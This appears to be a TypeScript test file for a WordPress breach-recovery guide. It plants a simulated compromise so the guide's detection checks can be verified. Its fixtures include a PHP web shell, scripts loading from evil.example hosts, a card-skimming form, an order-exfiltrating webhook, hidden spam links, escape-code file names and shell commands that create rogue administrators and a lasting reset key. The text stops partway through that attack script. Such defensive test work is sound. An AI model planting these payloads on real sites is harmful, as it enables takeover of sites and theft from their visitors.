/**
 * The hacked-site recovery guide's checks after a break-in (step 3), pasted into one clean shell of the site's account as the
 * page prints them, on the site and namespace of scripts/recipes/wordpress.ts:
 * the checks that run no code of the site, `wp core verify-checksums
 * --include-root`, then the block that loads WordPress (administrators in
 * WP-CLI and in the database, `plugin verify-checksums --all`, new passwords
 * and salts). The stand-in wordpress.org serves the checksums of the plugin the
 * site has (akismet, from Debian's package). First on a site broken into the
 * way the page means to catch (a core file, a plugin file, a file beside
 * index.php, PHP in uploads, a .user.ini, a must-use plugin hiding an extra
 * administrator, a link, wp-cli.yml files, names with escape codes, a role
 * named *, an editor's Application Password, sign-ups opened as administrator, a role EDITOR and its account,
 * a script in a post, a post field, an option, an excerpt, a category's description and a comment, an
 * administrator whose login holds escape codes, the admin email, a headerless plugin folder, a loose file in plugins
 * and a theme, a shop's REST API key and webhook in WooCommerce's tables, a spam page with no script, a file added
 * to wp-includes, the backdoor's modification time set back), with the evidence copy (files, their times, the
 * database) and the replacement of core pasted between the core check and the checks that load WordPress, then on
 * the same site clean:
 * each check must name exactly what was planted, no listing may print a raw
 * control character, and nothing is named on the clean site.
 * The compromised run comes first, so a breaking edit fails there and its
 * proof does not pay for the clean run.
 */
import {spawn, type ChildProcess} from 'node:child_process';
import path from 'node:path';
import type {BlockRef} from './blocks';
import {CLEAN_SHELL, commandsOf, hasControl, withoutGuardPause} from './cleanShell';
import {admin, SOCKET} from './mariadb';
import {escapeRegExp} from './paths';
import {replace, type Recipe, type RecipeContext} from './recipe';
import {READER, run, tool} from './system';
import {reloadSiteDatabase, servedPlugin, SITE, wordpressNamespace, type WordPressNamespace} from './wordpress';
import {pristineSite} from './wordpressBackup';

const SECURITY = 'wordpress/hacked-site-recovery';
/** Where the recipes' namespace puts WP-CLI (wordpress.ts), the path the clean shell's PATH finds first. */
const WP_CLI = '/usr/local/bin/wp';
export const CODE_FREE_CHECKS: BlockRef = {article: SECURITY, title: 'Terminal (pasted into that clean shell: runs no code of the site)'};
/** The core files every wp command runs (WP-CLI's IncludeRequestsAutoloader loads the site's Requests), checked with md5sum. */
export const HTTP_LIBRARY_CHECK: BlockRef = {
  article: SECURITY,
  title: 'Terminal (the same clean shell: the core files every wp command runs)',
};
export const CORE_CHECK: BlockRef = {article: SECURITY, title: 'Terminal (the same clean shell, once you have read all that)'};
export const LOADING_CHECKS: BlockRef = {
  article: SECURITY,
  title: 'Terminal (once the check reports only files you have read: these load WordPress)',
};
/** Step 3's evidence copy (review r54 MEDIUM 4): the files and their times as root, the database in the clean shell. */
export const EVIDENCE_FILES: BlockRef = {
  article: SECURITY,
  title: "Terminal (as the administrator: the site's files as found, with their times)",
};
/** The database as found, dumped by MariaDB's administrator into the evidence folder (review r66a MEDIUM-1). */
export const EVIDENCE_DATABASE: BlockRef = {article: SECURITY, title: "Terminal (the same administrator's shell: the database as found)"};
/** Step 4's replacement of core by the version the site runs (review r54 MEDIUM 5). */
export const CORE_REPLACE: BlockRef = {article: SECURITY, title: 'Terminal (the clean shell: replace core with the version the site runs)'};
/** Step 5's cleaning of what step 3 found in the database (review r127a L3). */
export const DATABASE_CLEANING: BlockRef = {
  article: SECURITY,
  title: 'Terminal (the clean shell, after the reinstall: clean what step 3 found in the database)',
};

const PLUGIN = 'akismet';
const INTRUDER = 'wpsupport';
/** An account holding an administrator's capability and no role (review r49), and a role given one: neither is an administrator. */
const HELPER = 'wphelper';
const WIDENED_ROLE = 'author';
/** A role the attacker made, named so that an unquoted $(...) would glob it into the names of the files in /. */
const GLOB_ROLE = '*';
/** A role named like a WP-CLI flag (review r100b F4): `wp cap list --debug` turns on debug output and lists no role. */
const FLAG_ROLE = '--debug';
/** A role given unfiltered_html (review r105b): its posts can run script in an administrator's browser. */
const HTML_ROLE = 'contributor';
/** A role whose name holds a newline and a forged line (review r107b): printed raw, "#0" would name administrator. */
const FORGED_ROLE = 'seo\n#0 wp_backdoor';
/** A non-administrator whose Application Password logs in over the REST API all the same (review r48 LOW 5). */
const APP_PASSWORD_USER = 'wpeditor';
const APP_PASSWORD_NAME = 'Jetpack';
/**
 * A reset key written straight into wp_users (review r66b MEDIUM-1): `<time>:<hash>`, the expiry counted from the
 * row's own time, so it outlives new salts; resetting administrators' passwords clears only theirs.
 */
const PLANTED_RESET_KEY = '9999999999:$P$BplantedResetKeyHashForTheEditor0';
/**
 * A role named EDITOR given manage_options, and an account holding it (review r50 LOW 3): under WordPress's _ci
 * collation a plain REGEXP takes its key for editor's, so the database query would pass it over.
 */
const UPPER_ROLE = 'EDITOR';
const UPPER_ROLE_USER = 'wpboss';
/** The script planted in a post and in an option (review r50 HIGH 1): what step 3's searches of the database must find. */
const INJECTED = '<script src=https://cdn.evil.example/x.js></script>';
const INJECTED_OPTION = 'wpc_footer_code';
/** A post field where page builders keep a page's content (review r51 MEDIUM 4): the script planted there too. */
const INJECTED_META = '_elementor_data';
/** Script in an attribute, not a script element (review r52 MEDIUM 2): in an option the searches must find too. */
const INJECTED_HANDLER = '<img src=x onerror=fetch(1)>';
const INJECTED_HANDLER_OPTION = 'wpc_header_code';
/**
 * Injections the first pattern missed (review r57 M5), each matched by one of the widened pattern's words alone:
 * a redirect in an option, a script's address decoded by atob in a post field, a link written by document.write.
 */
const INJECTED_WIDER = {
  // Spaces around = (review r119a L1): HTML allows them, and browsers obey the refresh
  refreshOption: {name: 'wpc_meta_refresh', value: '<meta http-equiv = "refresh" content="0;url=https://spam.example/">'},
  atobMeta: {post: 2, key: '_wpc_head_js', value: 'var u = atob("aHR0cHM6Ly9zcGFtLmV4YW1wbGUv"); location = u;'},
  writeOption: {name: 'wpc_ads', value: 'document.write("<a href=https://spam.example/>watches</a>")'},
  // JSON-escaped, as page builders keep their HTML in post meta (review r121a M3): \" between = and refresh
  builderMeta: {
    post: 2,
    key: '_wpc_builder',
    value: '{"html":"<meta http-equiv=\\"refresh\\" content=\\"0;url=https://spam.example/\\">"}',
  },
};
/** The block's loop that drops the triggers and events before the resets: the proofs take it out or swap it. */
const DROP_LOOP = /^for kind in TRIGGER EVENT; do\n.*\n.*\ndone\n/m;
/** The block's roles check: its two comment lines, then its three lines of command. The proofs take it out or swap it. */
const ROLES_CHECK = /^(# Roles that can take over the site.*\n.*\n)(?:.*\n){3}/m;
/** The roles the roles check must list on the broken-into site: core's two, then what ATTACK widened or made. */
const ROLES_TAKING_OVER = ['administrator', 'editor', WIDENED_ROLE, GLOB_ROLE, FLAG_ROLE, UPPER_ROLE, HTML_ROLE, FORGED_ROLE];
/** javascript: with `gap` (white space) allowed between its letters and before its colon, as the page writes it. */
const spacedScheme = (gap: string) => [...'javascript'].join(gap) + gap + ':';
/** The content pattern's javascript: with white space between its letters before review r122a (java and script only). */
const SPACED_SCHEME_BEFORE_R122A = 'java[[:space:]]*script[[:space:]]*:';
/** ... and before review r124a (at most nine between two letters). */
const SPACED_SCHEME_BEFORE_R124A = spacedScheme('[[:space:]]{0,9}');
/** The content pattern's alternatives for a tab or newline inside javascript: (browsers strip them), as the page prints them. */
const TAB_REFERENCES = `|${spacedScheme('[[:space:]]*')}|&#0*(9|10|13)([^0-9]|$)|&#x0*[9ad]([^0-9a-f]|$)|&(tab|newline);`;
/** The content pattern's character-reference alternatives (a letter or colon written as &#...), as the page prints them: the proofs swap them. */
const CHARACTER_REFERENCES =
  '&#(x0*(3a|[46][1-9a-f]|[57][0-9a])([^0-9a-f]|$)|0*(58|6[5-9]|[7-9][0-9]|1[01][0-9]|12[0-2])([^0-9]|$))|&colon;';
/** The content pattern's event-handler alternative, as the page prints it: the proofs take it out or swap it. */
const HANDLER_PATTERN = '|(^|[^[:alnum:]_-])on[a-z]+[[:space:]]*=';
/**
 * Scripts in options that earlier patterns missed, each planted as an option and named by `missed` when a search
 * misses it: a handler stuck to a quoted attribute and an entity without its semicolon (review r76b F1), a handler
 * after a > inside a quoted value, which no <[^>]* run reaches (review r81b M1), a later letter written as a
 * reference (review r115a F1) and a tab written as a reference inside the scheme, which browsers strip (review r118a F1).
 */
const INJECTED_DISGUISED = {
  quotedHandler: {name: 'wpc_badge', value: '<img src="x"onerror=fetch(1)>', missed: 'the handler after a quote'},
  entityNoSemicolon: {name: 'wpc_link', value: '<a href="&#106avascript:fetch(1)">offer</a>', missed: 'the entity without a semicolon'},
  gtInValue: {name: 'wpc_gallery', value: '<img alt="a>b" onerror=fetch(1)>', missed: 'the handler after a > inside a quoted value'},
  entityLaterLetter: {name: 'wpc_deal', value: '<a href="jav&#x61;script:fetch(1)">deal</a>', missed: 'a later letter as a reference'},
  entityTab: {name: 'wpc_promo', value: '<a href="java&#9;script:fetch(1)">promo</a>', missed: 'a tab as a reference'},
  // A raw tab anywhere in the scheme (review r122a M3): browsers strip it, so this is javascript: too
  rawTab: {name: 'wpc_coupon', value: '<a href="jav\tascript:fetch(1)">coupon</a>', missed: 'a raw tab inside javascript:'},
  // Any number of them (review r124a M1): twelve here
  manyTabs: {
    name: 'wpc_voucher',
    value: `<a href="javas${'\t'.repeat(12)}cript:fetch(1)">voucher</a>`,
    missed: 'twelve tabs inside javascript:',
  },
  // A card skimmer needs no script on the page (review r122a M3): a form that posts elsewhere
  formSkimmer: {
    name: 'wpc_checkout',
    value: '<form action="https://skim.example/c" method="post"><input name="card"></form>',
    missed: 'a form posting elsewhere',
  },
  // A stylesheet from elsewhere can hide, overlay or add content (review r127a L2): linked, and imported
  linkedStylesheet: {
    name: 'wpc_head_styles',
    value: '<link rel="stylesheet" href="https://cdn.evil.example/x.css">',
    missed: 'a stylesheet linked from elsewhere',
  },
  importedStylesheet: {
    name: 'wpc_inline_styles',
    value: '<style>@import url(https://cdn.evil.example/y.css);</style>',
    missed: 'a stylesheet imported from elsewhere',
  },
  // A page builder's JSON with one letter of the tag as an escape (review r132a F1), and a form with / for its space (F3)
  jsonEscapedLetter: {
    name: 'wpc_builder_block',
    value: '{"html":"\\u003c\\u0073cript src=https://cdn.evil.example/z.js>\\u003c/script>"}',
    missed: 'a script whose s is a JSON escape',
  },
  slashForm: {
    name: 'wpc_newsletter',
    value: '<form/action="https://skim.example/n"><input name="email"></form>',
    missed: 'a form with / after its name',
  },
};
/**
 * PHP kept in the database (review r59 H1): a Code Snippets table (the plugin's Code_Snippets_DB registers
 * $wpdb->prefix . 'snippets', with the code in a `code` column) holding a shell, which only the listing of tables
 * core did not make names, and a plugin's option holding PHP with none of the first pattern's words.
 */
const SNIPPETS_TABLE = 'wp_snippets';
const PHP_OPTION = {name: 'wpc_custom_php', value: '<?php system($_GET["c"]);'};
/**
 * The site's database user given a right beyond its database (review r58 M4): with CREATE USER on *.* it could have
 * added database users. Granted by the administrator for the broken-into site, taken back for the clean one.
 */
const SITE_USER = `'${SITE.database}'@'localhost'`;
const WIDE_GRANT = `GRANT CREATE USER ON *.* TO ${SITE_USER}`;
/** Where else injected code renders (review r52 LOW 3): the Sample Page's excerpt, Uncategorized's description, the first comment. */
const INJECTED_ELSEWHERE = {excerptOf: 2, termId: 1, commentId: 1, titleOf: 3, titleWas: 'Privacy Policy', linkName: 'Partner'};
/**
 * An administrator the attacker wrote straight into the tables (WordPress's own sanitize_user would refuse the name),
 * its login holding escape codes that erase the line (review r52): as cat -v shows it, and as SQL writes it.
 */
const ESCAPED_LOGIN = {shown: 'wp^[[2Kroot', sql: "CONCAT('wp', CHAR(27), '[2Kroot')", email: 'wproot@example.net'};
/**
 * What the attacker adds where step 4 reinstalls plugins and themes (review r53 HIGH 1): a plugin folder whose PHP has
 * no plugin header, so neither wp plugin list nor plugin verify-checksums sees it; a loose file in plugins (named with
 * escape codes); a theme with a backdoor in its functions.php. The code-free listing of plugins and themes must name
 * each; wp theme list shows the theme, wp plugin list not the folder.
 */
const HEADERLESS_PLUGIN = 'wp-cache-helper';
const PLANTED_THEME = 'flavor';
/** The address core mails its notices and recovery-mode links to, as the attacker set it (review r53 LOW 6), and as installed. */
const ADMIN_EMAIL = {broken: 'support@example.net', clean: 'admin@example.com'};
/** A trigger the site's database account may create (GRANT ALL; review r52 MEDIUM 1): one can put back what is deleted. */
const PLANTED_TRIGGER = 'wp_keep_admin';
/**
 * Undoes every password change in wp_users: the block drops it before its resets. Its name holds a backslash, which
 * the client's batch output escapes, so a drop by the listed name misses it (review r89b H1).
 */
const PASSWORD_TRIGGER = 'wp_keep\\pass';
/**
 * A stored procedure made by another database account, MariaDB's root (review r66a MEDIUM-1): the site's user lists it
 * but cannot export it (mysqldump stops with "insufficient privileges to SHOW CREATE PROCEDURE"), so the evidence
 * dump is MariaDB's administrator's.
 */
const PLANTED_ROUTINE = 'wp_cache_helper';
/** Settings that let anyone sign up as an administrator (review r50 HIGH 1), and their values as installed. */
const OPEN_SIGNUP = {
  broken: {users_can_register: '1', default_role: 'administrator'},
  clean: {users_can_register: '0', default_role: 'subscriber'},
};
/**
 * A file name with escape codes that move the cursor up a line and erase it: raw on a terminal, it hides the line
 * above. As the page's cat -v shows it, and as bash's $'...' writes it.
 */
const ESCAPED = {shown: 'x^[[1A^[[2K.php', written: String.raw`x\e[1A\e[2K.php`};
const ESCAPED_YML = {shown: 'wp-cli^[[2K.yml', written: String.raw`wp-cli\e[2K.yml`};
/**
 * WooCommerce's API key and webhook tables with `prefix` (their columns as WC_Install::get_schema() makes them), each
 * holding one row planted for `owner` (a user ID, or SQL giving one): the key and webhook an attacker leaves.
 */
export const wooCommerceKeyAndWebhook = (
  prefix: string,
  owner: string,
  key: {description: string; permissions: string},
  webhook: {name: string; url: string},
) => `CREATE TABLE ${prefix}woocommerce_api_keys (
  key_id bigint(20) unsigned NOT NULL auto_increment,
  user_id bigint(20) unsigned NOT NULL,
  description varchar(200) NULL,
  permissions varchar(10) NOT NULL,
  consumer_key char(64) NOT NULL,
  consumer_secret char(43) NOT NULL,
  nonces longtext NULL,
  truncated_key char(7) NOT NULL,
  last_access datetime NULL default null,
  PRIMARY KEY  (key_id),
  KEY consumer_key (consumer_key),
  KEY consumer_secret (consumer_secret)
);
CREATE TABLE ${prefix}wc_webhooks (
  webhook_id bigint(20) unsigned NOT NULL AUTO_INCREMENT,
  status varchar(200) NOT NULL,
  name text NOT NULL,
  user_id bigint(20) unsigned NOT NULL,
  delivery_url text NOT NULL,
  secret text NOT NULL,
  topic varchar(200) NOT NULL,
  date_created datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
  date_created_gmt datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
  date_modified datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
  date_modified_gmt datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
  api_version smallint(4) NOT NULL,
  failure_count smallint(10) NOT NULL DEFAULT '0',
  pending_delivery tinyint(1) NOT NULL DEFAULT '0',
  PRIMARY KEY  (webhook_id),
  KEY user_id (user_id)
);
INSERT INTO ${prefix}woocommerce_api_keys (user_id, description, permissions, consumer_key, consumer_secret, truncated_key)
  SELECT ${owner}, '${key.description}', '${key.permissions}', SHA2('ck_planted', 256), 'cs_planted', 'planted';
INSERT INTO ${prefix}wc_webhooks (status, name, user_id, delivery_url, secret, topic, api_version)
  SELECT 'active', '${webhook.name}', ${owner}, '${webhook.url}', 'planted', 'order.created', 3;`;
/**
 * A shop's REST API key and webhook the attacker leaves (review r54 MEDIUM 2), in WooCommerce's own tables (its
 * WC_Install::get_schema()), which the site as installed does not have: the key acts as the administrator.
 */
const SHOP_KEY = {description: 'Shipping sync', permissions: 'read_write'};
const SHOP_WEBHOOK = {name: 'Order sync', url: 'https://hooks.evil.example/orders'};
/**
 * Links hidden by CSS, each added to an old page straight in the table, so its change date stays: off-screen
 * (review r79b M1), in a 1px box with its overflow hidden and in a box scaled to nothing (review r119a L2), off
 * to the right and at opacity 0.0 (review r121a M2).
 */
const HIDDEN_SPAM = [
  {
    page: 'Our team',
    how: 'off-screen to the left',
    link: '<div style="position:absolute;left:-9999px"><a href="https://pills.example/">pills</a></div>',
  },
  {
    page: 'Our history',
    how: 'a 1px box',
    link: '<span style="width:1px;height:1px;overflow:hidden"><a href="https://pills.example/">pills</a></span>',
  },
  {page: 'Our values', how: 'scaled to nothing', link: '<div style="transform:scale(0)"><a href="https://pills.example/">pills</a></div>'},
  {
    page: 'Our story',
    how: 'off-screen to the right',
    link: '<div style="position:absolute;right:-9999px"><a href="https://pills.example/">pills</a></div>',
  },
  {
    page: 'Our mission',
    how: 'opacity 0.0',
    link: '<p style="opacity:0.0;position:absolute"><a href="https://pills.example/">pills</a></p>',
  },
  // Units other than px (review r122a M3)
  {page: 'Our partners', how: 'text at 0.1em', link: '<span style="font-size:0.1em"><a href="https://pills.example/">pills</a></span>'},
  {
    page: 'Our awards',
    how: 'off-screen by 50vw',
    link: '<div style="position:absolute;left:-50vw"><a href="https://pills.example/">pills</a></div>',
  },
];
/** A link hidden by CSS in a widget's option, where no date shows it (review r121a M1). */
const HIDDEN_WIDGET = {name: 'wpc_footer_links', value: '<div style="display:none"><a href="https://pills.example/">pills</a></div>'};
/** The same link in an author's bio and in a comment (review r126a M1), and a page whose small print hides nothing. */
const HIDDEN_LINK = '<span style="display:none"><a href="https://pills.example/">pills</a></span>';
/** Small print and words that end like PHP's functions (review r129a L3): prose the searches must leave out. */
const SMALL_PRINT_PAGE = {
  page: 'Our menu',
  content: '<p style="font-size:0.9em">Prices include VAT. A medieval (1200) recipe; book through our system (online).</p>',
};
/**
 * Links hidden in ways the hidden-link search misses (review r127a M1), each to a domain of its own and in a
 * place of its own, which the list of outside domains must name: transparent text on a page, 2px text in a
 * widget's option, a link under a white box in a page builder's field, the theme's screen-reader-text class
 * (with no CSS in the row at all, and a link without its scheme) in a category's description. The page also
 * links to the site itself, with www and without, which the list leaves out.
 */
const LINKED_SPAM_PAGE = {
  page: 'Our clients',
  content:
    '<a href="https://clear-casino.example/" style="color:transparent">casino</a> <a href="https://www.example.com/contact/">Contact</a> <a href="HTTPS://EXAMPLE.COM/">Home</a> <a href="https:&#47;&#47;entity-loans.example/" style="color:#fff">loans</a> <a href="https://example.com@decoy-loans.example/">Partners</a> <a href="http:bare-loans.example/">Offers</a> <a href="https://wide-loans。example/">Deals</a> <a href="https://coded-loans%2eexample/">Rates</a> <a href="http://3232235777/">More</a> <a href="https://dot-loans&#46;example/">Loans</a>',
};
/**
 * A link as Elementor stores it (review r128a M1): its data is JSON with every slash escaped (\/), and the widget
 * hidden by the builder's own classes. Written straight into the table, as WP-CLI would unslash it.
 */
const LINKED_SPAM_JSON = {
  post: 2,
  key: '_elementor_data',
  value:
    '[{"settings":{"editor":"<a href=\\"https:\\/\\/json-pills.example\\/\\">pills<\\/a> <a href=\\"https:\\/\\/json-dot\\u002eexample\\/\\">deals<\\/a>","hide_desktop":"hidden-desktop"}}]',
};
const LINKED_SPAM_OPTION = {name: 'wpc_sidebar_links', value: '<a href="https://tiny-pills.example/" style="font-size:2px">pills</a>'};
const LINKED_SPAM_META = {
  post: 2,
  key: '_wpc_banner',
  value:
    '<div style="position:relative"><a href="https://under-loans.example/" style="position:absolute;z-index:-1">loans</a><div style="position:relative;background:#fff">Welcome</div></div>',
};
const LINKED_SPAM_TERM = {
  id: INJECTED_ELSEWHERE.termId,
  link: '<span class="screen-reader-text"><a href="//reader-pharma.example/">pharmacy</a></span>',
};
/** Each domain, and the one place the list must name for it (a pattern: the page's ID is the site's). */
const LINKED_SPAM = [
  {domain: 'clear-casino.example', place: 'page:\\d+', how: `transparent text on the page "${LINKED_SPAM_PAGE.page}"`},
  {domain: 'tiny-pills.example', place: `option:${LINKED_SPAM_OPTION.name}`, how: `2px text in the option ${LINKED_SPAM_OPTION.name}`},
  {
    domain: 'under-loans.example',
    place: `postmeta:${LINKED_SPAM_META.post}`,
    how: `a link under a white box in post ${LINKED_SPAM_META.post}'s field ${LINKED_SPAM_META.key}`,
  },
  {
    domain: 'reader-pharma.example',
    place: `term:${LINKED_SPAM_TERM.id}`,
    how: `the screen-reader-text class in category ${LINKED_SPAM_TERM.id}'s description`,
  },
  {
    domain: 'json-pills.example',
    place: `postmeta:${LINKED_SPAM_JSON.post}`,
    how: `a link with JSON-escaped slashes in ${LINKED_SPAM_JSON.key}`,
  },
  {domain: 'entity-loans.example', place: 'page:\\d+', how: `a link whose slashes are &#47; on the page "${LINKED_SPAM_PAGE.page}"`},
  {
    domain: 'decoy-loans.example',
    place: 'page:\\d+',
    how: `a link to https://example.com@decoy-loans.example/, which browsers open at the host after the @, on the page "${LINKED_SPAM_PAGE.page}"`,
  },
  // Addresses whose host a browser finds without // or an ASCII dot in it (review r131a M1)
  {domain: 'bare-loans.example', place: 'page:\\d+', how: `http:bare-loans.example/, with no //, on the page "${LINKED_SPAM_PAGE.page}"`},
  {
    domain: 'wide-loans.example',
    place: 'page:\\d+',
    how: `a host with an ideographic full stop for its dot on the page "${LINKED_SPAM_PAGE.page}"`,
  },
  {domain: 'coded-loans.example', place: 'page:\\d+', how: `a host with its dot written %2e on the page "${LINKED_SPAM_PAGE.page}"`},
  {domain: '3232235777', place: 'page:\\d+', how: `an IP address written as one number on the page "${LINKED_SPAM_PAGE.page}"`},
  {domain: 'dot-loans.example', place: 'page:\\d+', how: `a host with its dot written &#46; on the page "${LINKED_SPAM_PAGE.page}"`},
  {
    domain: 'json-dot.example',
    place: `postmeta:${LINKED_SPAM_JSON.post}`,
    how: `a host with its dot written \\u002e in ${LINKED_SPAM_JSON.key}`,
  },
];
/** Custom HTML widgets (a serialized option): the script in instance 2, which step 5 empties, and instance 3 to keep. */
const INJECTED_WIDGETS = {'2': {title: '', content: INJECTED}, '3': {title: 'Hours', content: 'Open 9 to 5'}, _multiwidget: 1};
/**
 * Step 5's cleaning block run as the reader would on what the break-in left, each example ID set to the planted
 * one and the editor's step done by sed: [what the page says, what runs, as the notes say it].
 */
const CLEANING_STEPS: [string, string, string][] = [
  [' post get 4 ', ' post get 1 ', 'post 4 as post 1, which holds the script'],
  [' post update 4 ', ' post update 1 ', ''],
  [' --post_parent=4 ', ' --post_parent=1 ', ''],
  ['nano -L "$F"', `sed -i 's#${INJECTED}##' "$F"`, 'the edit in nano done by sed: the script taken out'],
  [
    ' term update category 12 ',
    ` term update category ${INJECTED_ELSEWHERE.termId} `,
    `category 12 as ${INJECTED_ELSEWHERE.termId}, comment 2 as ${INJECTED_ELSEWHERE.commentId}`,
  ],
  [' comment update 2 ', ` comment update ${INJECTED_ELSEWHERE.commentId} `, ''],
  [
    " post meta update 38 _menu_item_url 'https://example.com/'",
    ` post meta update 1 ${INJECTED_META} ''`,
    `menu item 38's _menu_item_url as post 1's ${INJECTED_META}, emptied`,
  ],
];
/** A category whose name holds the script (review r126a H1): core prints term names unescaped. */
const INJECTED_TERM_NAME = {id: 90, name: 'Deals'};
/** The hidden-link search as the page printed it before reviews r119a, r121a and r122a: the proofs swap them in. */
const HIDDEN_PATTERN_BEFORE_R119A =
  'display[[:space:]]*:[[:space:]]*none|visibility[[:space:]]*:[[:space:]]*hidden|(height|width|font-size|opacity)[[:space:]]*:[[:space:]]*0[^.0-9]|(left|top|text-indent)[[:space:]]*:[[:space:]]*-([0-9]{3,}|[0-9]{2,}r?em)|<[a-z][^>]*[[:space:]]hidden[[:space:]>=/]|clip(-path)?[[:space:]]*:';
const HIDDEN_PATTERN_BEFORE_R122A =
  'display[[:space:]]*:[^;"}]{0,40}none|visibility[[:space:]]*:[[:space:]]*(hidden|collapse)|(^|[^-a-z]|max-)(height|width|font-size)[[:space:]]*:[[:space:]]*(0[^.0-9]|1px)|font-size[[:space:]]*:[[:space:]]*0?[.][0-9]+px|(opacity|scale)[[:space:]]*[:(][[:space:]]*(0?[.]0|0([^.0-9]|$))|(left|right|top|bottom|inset|text-indent)[[:space:]]*:[[:space:]]*-([0-9]{3,}|[0-9]{2,}r?em)|translate[xyz3d]*[(][[:space:]]*-[0-9]{3,}|<[a-z][^<>]{0,400}[[:space:]]hidden[[:space:]>=/]|clip(-path)?[[:space:]]*:|<noscript';
const HIDDEN_PATTERN_BEFORE_R121A =
  'display[[:space:]]*:[[:space:]]*none|visibility[[:space:]]*:[[:space:]]*hidden|(^|[^-a-z]|max-)(height|width|font-size|opacity)[[:space:]]*:[[:space:]]*(0[^.0-9]|1px)|scale[(][[:space:]]*0[[:space:]]*[,)]|(left|top|text-indent)[[:space:]]*:[[:space:]]*-([0-9]{3,}|[0-9]{2,}r?em)|<[a-z][^>]*[[:space:]]hidden[[:space:]>=/]|clip(-path)?[[:space:]]*:';
/** Swaps the page's H line for `pattern`. */
const withHiddenPattern = (pattern: string) => replace(/^H='.*'$/m, `H='${pattern}'`);
/** A spam page with no script in it (review r54 LOW 7): only the query of recent changes finds it, first. */
const SPAM_PAGE = 'Cheap watches';
/** A spam page given an old date, which WordPress also gives it as its change date (review r63b M3). */
const BACKDATED_PAGE = 'Cheap pills';
/** The site's HTTP library, which WP-CLI runs before any command (WordPress before 6.2, as Debian 12's 6.1). */
const HTTP_LIBRARY_FILE = 'wp-includes/class-requests.php';
/**
 * A file WordPress 6.1 does not have where WP-CLI looks first for the site's Requests: it runs before any command
 * (IncludeRequestsAutoloader), and no checksum names it (review r69a HIGH-1).
 */
const REQUESTS_AUTOLOAD = 'wp-includes/Requests/src/Autoload.php';
/** A file added to wp-includes, which a core download over the site leaves (review r54 MEDIUM 5). */
const CORE_EXTRA = 'wp-includes/cache-helper.php';
/** The backdoor beside index.php, its modification time set back: the evidence listing must keep its change time. */
const STOMPED = {file: 'cache.php', mtime: '2020-01-02 03:04:05'};
/** Echoed after each pasted block: its output ends there. */
const MARK = '@@ block done @@';

/** What the attacker leaves, by the check that must name it (paths as the checks print them). */
const PLANTED = {
  /** Listed by the code-free block's finds. */
  listed: [
    `${SITE.root}/wp-content/mu-plugins/.cache.php`,
    `${SITE.root}/wp-content/mu-plugins/loader.php`,
    `${SITE.root}/wp-content/uploads/2026/11/.thumb.phtml`,
    `${SITE.root}/wp-content/uploads/.user.ini`,
    `${SITE.root}/wp-cli.yml`,
    '/var/www/example.com/wp-cli.yml',
    `${SITE.root}/wp-content/uploads/2026/11/favicon.ico`,
    `${SITE.root}/.maintenance`,
    `${SITE.root}/wp-content/languages/en_US.l10n.php`,
    `${SITE.root}/wp-content/upgrade/wp-tmp.php`,
    '/var/www/example.com/.htaccess',
    '/var/www/example.com/.user.ini',
    `${SITE.root}/wp-content/uploads/2026/11/${ESCAPED.shown}`,
    `${SITE.root}/wp-content/uploads/^[[2K/.htaccess`,
    `${SITE.root}/wp-content/plugins/${HEADERLESS_PLUGIN}`,
    `${SITE.root}/wp-content/plugins/${ESCAPED.shown}`,
    `${SITE.root}/wp-content/themes/${PLANTED_THEME}`,
    `/var/www/example.com/${ESCAPED_YML.shown}`,
  ],
  /** Warnings of core verify-checksums --include-root. */
  core: [
    "File doesn't verify against checksum: wp-includes/functions.php",
    `File doesn't verify against checksum: ${HTTP_LIBRARY_FILE}`,
    'File should not exist: cache.php',
    `File should not exist: ${CORE_EXTRA}`,
    `File should not exist: ${REQUESTS_AUTOLOAD}`,
    'File should not exist: wp-cli.yml',
    `File should not exist: ${ESCAPED.shown}`,
  ],
};

/**
 * The attack, as the site's account (PHP runs as it): an administrator hidden from WP-CLI's user list by a
 * dot-named must-use plugin, a link in mu-plugins to PHP dropped in uploads, an auto_prepend_file, a core and a
 * plugin file changed, a subscriber and a role given administrators' capabilities, a backdoor beside index.php, wp-cli.yml files that run PHP when WP-CLI starts below them,
 * PHP in an .ico in uploads, and the two files core runs as PHP that the core check skips (.maintenance, a
 * translation's .l10n.php), files named with escape codes where each listing of step 3 prints names, a role named
 * `*` holding manage_options, one named --debug holding promote_users, contributor given unfiltered_html, one whose name forges a line of the roles check, an Application Password of an editor, anyone's sign-up made an administrator, a role
 * EDITOR (not editor) holding manage_options and its account, a script in a post, a post field and an option, in
 * an excerpt, a category's description and a comment, an administrator whose login holds escape codes, the admin
 * email changed, and in plugins and themes a headerless plugin folder, a loose file and a theme folder.
 */
const ATTACK = `set -e
cd ${SITE.root}
wp --path=${SITE.root} --skip-plugins --skip-themes user create ${INTRUDER} ${INTRUDER}@example.net --role=administrator --porcelain >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes user create ${HELPER} ${HELPER}@example.net --role=subscriber --porcelain >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes user add-cap ${HELPER} manage_options >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes user remove-role ${HELPER} subscriber >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes cap add ${WIDENED_ROLE} promote_users >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes role create '${GLOB_ROLE}' Helper >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes cap add '${GLOB_ROLE}' manage_options >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes eval 'add_role("${FLAG_ROLE}", "Debug", ["promote_users" => true]);'
wp --path=${SITE.root} --skip-plugins --skip-themes cap add ${HTML_ROLE} unfiltered_html >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes eval 'add_role(${JSON.stringify(FORGED_ROLE)}, "SEO", ["manage_options" => true]);'
wp --path=${SITE.root} --skip-plugins --skip-themes user create ${APP_PASSWORD_USER} ${APP_PASSWORD_USER}@example.net --role=editor --porcelain >/dev/null
wp --path=${SITE.root} --skip-plugins --skip-themes user application-password create ${APP_PASSWORD_USER} ${APP_PASSWORD_NAME} --porcelain >/dev/null
# A password-reset key for the editor, valid until 2286 (the time is the row's own): new salts do not void it
wp --path=${SITE.root} db query "UPDATE wp_users SET user_activation_key = '${PLANTED_RESET_KEY.replaceAll('$', '\\$')}' WHERE user_login = '${APP_PASSWORD_USER}'"
wp --path=${SITE.root} --skip-plugins --skip-themes role create ${UPPER_ROLE} Editor >/dev/null
